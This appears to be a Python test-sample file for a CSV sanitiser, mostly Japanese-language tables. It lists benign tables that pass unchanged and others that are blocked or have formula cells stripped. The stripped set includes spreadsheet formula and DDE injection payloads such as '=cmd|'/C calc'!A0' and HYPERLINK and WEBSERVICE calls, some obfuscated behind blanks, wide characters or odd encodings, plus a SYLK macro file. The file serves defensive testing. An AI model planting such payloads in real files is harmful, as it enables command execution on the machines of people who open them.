"""Tables as text: what a spreadsheet runs, and what only looks like it."""
from sample import Sample

QUOTE = '"'


def rows(*lines):
    return "\r\n".join(lines) + "\r\n"


def passes(name, text, note, encoding="utf-8", **more):
    return Sample(name, text.encode(encoding), verdict="unchanged", note=note, **more)


def guards(name, text, note, encoding="utf-8", **more):
    more.setdefault("removals", ["csv.formula"])
    return Sample(name, text.encode(encoding), note=note, **more)


ESTIMATE = rows(
    "番号,件名,単価,電話,備考",
    '1,"机,椅子","-1,234.5",+81-3-1234-5678,=HYPERLINK("http://e.example/?"&A1)',
    "2,用紙,-50,－３,=cmd|'/C calc'!A0",
    "3,高橋,△100,03-1234-5678,@SUM(1+1)",
    '4,鈴木,-5%,-,"＝1+1"')

NUMBERS = rows(
    "a,b,c,d,e",
    '-5,+5,-1.5E+10,"-1,234.5",-5%',
    "+81-3-1234-5678,-(3),- 5,-2024/01/31,+12:30",
    "－５,＋３．５,−5,-¥1000,-$3",
    "-,－,--,---,-5℃",
    "-3個,+10円,1e-5,'=1+1,a=b")


def quiet():
    yield passes("plain.csv", rows("品名,数量", "机,2"), "a table without formulas passes as it is")
    yield passes("numbers.csv", NUMBERS, "numbers, dates, telephone numbers, dashes")
    yield passes("quotes.csv", rows('"a ""b"" c","d,e","f\r\ng"', '"","",""'), "quotes and line ends")
    yield passes("cp932.csv", rows("番号,氏名", "1,髙橋①", "2,表示能力ソ"), "what Excel writes in Japan", "cp932")
    yield passes("bom.csv", "\ufeff" + rows("番号,氏名", "1,髙橋"), "UTF-8 as Excel writes it")
    yield passes("unicode.tsv", rows("a\tb", "1\t,-x", "2\t;=y"), "commas are text in a table of tabs", "utf-16")
    yield passes("one-column.csv", rows("番号", "1", "2"), "one column")
    yield passes("lines.csv", rows(*(f'{i},"山田 {i}",-{i}' for i in range(20000))), "20,000 rows")
    yield passes("addresses.csv", rows("mail,text", "a@example.jp,1+1=2", "x-y,a - b"),
                 "signs in the middle")
    yield passes("memo.csv", rows("a,b", '1,"机\n- 椅子 (2)\n= 計"'), "lists within a cell")


def loud():
    yield Sample("見積一覧.csv", ESTIMATE.encode("cp932"), removals=["csv.formula"], demo=True,
                 note="formulas in CP932; the numbers stay")
    for sign, word in (("=", "equals"), ("+", "plus"), ("-", "minus"), ("@", "at"),
                       ("＝", "wide-equals"), ("＋", "wide-plus"), ("－", "wide-minus"), ("＠", "wide-at"),
                       ("−", "minus-sign")):
        yield guards(f"{word}.csv", rows("a,b", f"1,{sign}SUM(A1)"), f"begins with {sign}")
        yield guards(f"{word}-quoted.csv", rows("a,b", f'1,"{sign}SUM(A1,B1)"'), f"quoted, begins with {sign}")
    yield guards("first-cell.csv", rows("=1+1,b"), "the first cell")
    yield guards("last-cell.csv", "a,=1+1", "the last, without a line end")
    yield guards("blanks.csv", rows("a,b", "1,  =1+1", "2,\u3000=1+1", '3," =1+1"', '4,\u00a0@x'),
                 "behind blanks of any kind")
    yield guards("tab.csv", rows("a,b", '1,"\tabc"', '2,"\t=1+1"'), "begins with a tab")
    yield guards("cr.csv", "a,b\r\n1,\"\r=1+1\"\r\n", "begins with a carriage return")
    yield guards("inner-quotes.csv", rows("a,b", '1,"""=1+1"""', '2, "=1+1"'), "behind quotes")
    yield guards("tail.csv", rows("a,b", '1,""=1+1', '2,"" "" =1+1'), "behind a quoted nothing")
    yield guards("open-quote.csv", 'a,b\r\n1,"open\r\n=cmd|\' /C calc\'!A0\r\n', "a quote that never closes")
    yield guards("line-in-cell.csv", rows("a,b", '1,"memo\n=HYPERLINK(""http://e.example"")"'),
                 "another reading of the quotes begins a row here")
    yield guards("semicolons.csv", rows("a;b", "1;=1+1"), "separated by semicolons")
    yield guards("other-separator.csv", rows("a,b", "1,x;=cmd|y!A1"), "a cell to who reads semicolons")
    yield guards("dde-minus.csv", rows("a,b", "1,-2+3+cmd|' /C calc'!A0"), "begins like a number")
    yield guards("number-then-call.csv", rows("a,b", "1,-5(A1)+WEBSERVICE(B1)"), "begins like a number")
    yield guards("sep.csv", "sep=;\r\na;b\r\n1;=1+1\r\n", "sets its separator",
                 removals=["csv.formula", "csv.separator"])
    yield guards("sep-quoted.csv", '"sep=|"\r\nSEP=;\r\na|b\r\n', "twice, quoted and in capitals",
                 removals=["csv.separator"])
    yield guards("tabs.tsv", rows("a\tb", "1\t=1+1"), "separated by tabs")
    for encoding, word in (("cp932", "cp932"), ("euc_jp", "euc"), ("iso2022_jp", "jis"), ("utf-16", "utf16")):
        yield guards(f"encoding-{word}.csv", rows("番号,式", "1,＝1+1", "2,=1+1", '3,"=表(1)"'),
                     "in another encoding", encoding)
    yield guards("cell-controls.csv", rows("番号,備考", "1,机\x0b椅子\x1d", "2,\x1e棚\x0b\x02"),
                 "what data bases write between the lines of a cell", "cp932", removals=["text.control"])
    yield guards("controls.csv", rows("a,b", "1,\u200b=1+1", "2,\x07=1+1" + " " * 40), "behind what does not show",
                 removals=["csv.formula", "text.control", "text.invisible"])
    yield guards("many.csv", rows(*(f"{i},=A{i}+1" for i in range(5000))), "5,000 formulas, one report")


def held():
    yield Sample("sylk.csv", b"ID;PWXL;N;E\r\nC;Y1;X1;K\"a\";EMSEXCEL\r\nE\r\n", verdict="blocked",
                 reason="type.forbidden", note="a symbolic link spreadsheet with a macro")
    yield Sample("sep-only.csv", b"sep=;\r\n", verdict="blocked", reason="type.empty",
                 note="nothing is left")
    yield Sample("web.csv", b"<html><table><tr><td>=1+1</td></tr></table></html>", output="web.html",
                 removals=["type.renamed"], note="what Excel opens as a web page becomes one")
    yield Sample("flipped.csv", rows("番号,件名", "1,庁舎改修工事").encode().replace("件".encode(), b"\xe4\xfb\xb6"),
                 verdict="blocked", reason="type.unknown", note="a flipped bit in UTF-8")


def samples():
    yield from quiet()
    yield from loud()
    yield from held()
